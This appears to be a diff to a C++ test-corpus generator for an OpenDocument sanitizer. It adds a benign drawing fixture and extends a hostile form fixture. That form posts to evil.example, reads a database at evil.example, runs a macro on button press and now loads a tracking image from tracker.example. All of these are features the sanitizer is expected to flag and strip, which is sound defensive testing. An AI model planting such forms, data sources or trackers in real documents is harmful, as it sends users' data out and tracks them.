@@ -54,6 +54,9 @@ void benign(corpus::Writer& writer) {
   writer.add("odf/benign/meeting.odp", odf::testing::presentation().build(),
              delivered("clean", {}, kFidelityChecks),
              "two slides: Japanese and English text, footer, picture, comment and chart");
+  writer.add("odf/benign/floor-plan.odg", odf::testing::drawing().build(),
+             delivered("clean", {}, kFidelityChecks),
+             "a drawing: shapes with Japanese and English text, picture, comment and chart");
   Package chart = odf::testing::text_document();
   chart.add("Object 1/styles.xml", odf::testing::styles_xml("<office:styles/>"))
       .add("Object 1/meta.xml", odf::testing::meta_xml("<meta:generator>x</meta:generator>"));
@@ -155,7 +158,8 @@ void objects(corpus::Writer& writer) {
       "<office:forms><form:form form:name=\"Form\" xlink:href=\"https://evil.example/collect\" "
       "form:method=\"post\" form:datasource=\"sdbc:mysql://evil.example/db\" "
       "form:command=\"SELECT * FROM t\"><form:button form:id=\"control1\" form:name=\"Push\" "
-      "form:label=\"押す Push\"><office:event-listeners><script:event-listener "
+      "form:label=\"押す Push\" form:image-data=\"https://tracker.example/button.png\">"
+      "<office:event-listeners><script:event-listener "
       "script:language=\"ooo:script\" script:event-name=\"form:performaction\" xlink:href=\"" +
       std::string(kScriptUrl) +
       "\"/></office:event-listeners></form:button></form:form></office:forms>";
@@ -166,8 +170,10 @@ void objects(corpus::Writer& writer) {
           "text:anchor-type=\"as-char\"/></text:p>",
           {}, form)
           .build(),
-      sanitized({"odf.form_event", "odf.form_submit", "odf.data_source"}, kFidelityChecks),
-      "a form that posts to a URL and reads a database, with a button that runs a macro");
+      sanitized({"odf.form_event", "odf.form_submit", "odf.data_source", "odf.remote_resource"},
+                kFidelityChecks),
+      "a form that posts to a URL and reads a database, with a button that runs a macro and "
+      "shows a remote picture");
 }
 
 void external(corpus::Writer& writer) {
